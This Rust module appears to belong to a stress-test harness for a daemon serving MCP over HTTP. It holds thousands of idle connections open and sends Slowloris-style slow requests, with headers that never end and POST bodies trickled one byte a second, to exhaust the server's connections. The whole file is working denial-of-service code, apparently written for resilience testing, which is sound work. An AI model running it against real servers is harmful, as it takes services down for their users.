//! Attacks by the number of connections: thousands that wait, so they are tasks of one thread.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::runtime::Builder;
use tokio::sync::Mutex;
use tokio::time::{Interval, MissedTickBehavior, interval, sleep, timeout};

use super::Means;
use crate::besieged::key;

/// Far more than a daemon may have.
pub const IDLE: usize = 5000;

/// As many as a daemon serves under systemd's soft limit of descriptors.
pub const SLOW: usize = 500;

/// How fast all of them together come again after they were turned away.
const AGAIN: Duration = Duration::from_millis(2);

/// Between two bytes of a slow request.
const SLOWLY: Duration = Duration::from_secs(1);

/// Holds so many idle and so many slow connections until the attack ends.
pub fn besiege(daemon: SocketAddr, idle: usize, slow: usize, means: &Arc<Means>) {
    let runtime = Builder::new_current_thread().enable_all().build().expect("a runtime can be made");
    runtime.block_on(async {
        let mut pace = interval(AGAIN);
        pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
        let pace = Arc::new(Mutex::new(pace));
        for number in 0..idle + slow {
            // Some slow ones first: all must find room, and all the others have come when they stand.
            let words = (number < slow).then(|| if number % 2 == 0 { head(daemon) } else { body(daemon) });
            tokio::spawn(hold(daemon, words, Arc::clone(&pace), Arc::clone(means)));
        }
        while !means.is_ended() {
            sleep(Duration::from_millis(50)).await;
        }
    });
}

/// Keeps one connection, and another one whenever it is closed.
async fn hold(daemon: SocketAddr, words: Option<String>, pace: Arc<Mutex<Interval>>, means: Arc<Means>) {
    loop {
        match TcpStream::connect(daemon).await {
            Ok(stream) => {
                Means::count(&means.opened);
                match &words {
                    None => idle(stream).await,
                    Some(words) => slow(stream, words).await,
                }
                Means::count(&means.closed);
            }
            Err(_) => Means::count(&means.failed),
        }
        pace.lock().await.tick().await;
    }
}

/// Says nothing until the other side hangs up.
async fn idle(mut stream: TcpStream) {
    let _ = stream.read(&mut [0]).await;
}

/// Says the words, and then one byte a second until the other side has had enough.
async fn slow(mut stream: TcpStream, words: &str) {
    let mut said = stream.write_all(words.as_bytes()).await;
    while said.is_ok() {
        if timeout(SLOWLY, stream.read(&mut [0; 1024])).await.is_ok() {
            return;
        }
        said = stream.write_all(b"a").await;
    }
}

/// A head that never ends, of nobody.
fn head(daemon: SocketAddr) -> String {
    format!("POST /mcp HTTP/1.1\r\nHost: {daemon}\r\nX-Slow: ")
}

/// A body that does not come, of somebody who has a key.
fn body(daemon: SocketAddr) -> String {
    let key = key("mallory");
    format!(
        "POST /mcp HTTP/1.1\r\nHost: {daemon}\r\nAuthorization: Bearer {key}\r\nContent-Type: application/json\r\n\
         Content-Length: 1000000\r\nMCP-Protocol-Version: 2026-07-28\r\nMcp-Method: tools/list\r\n\r\n{{\"jsonrpc\":\""
    )
}
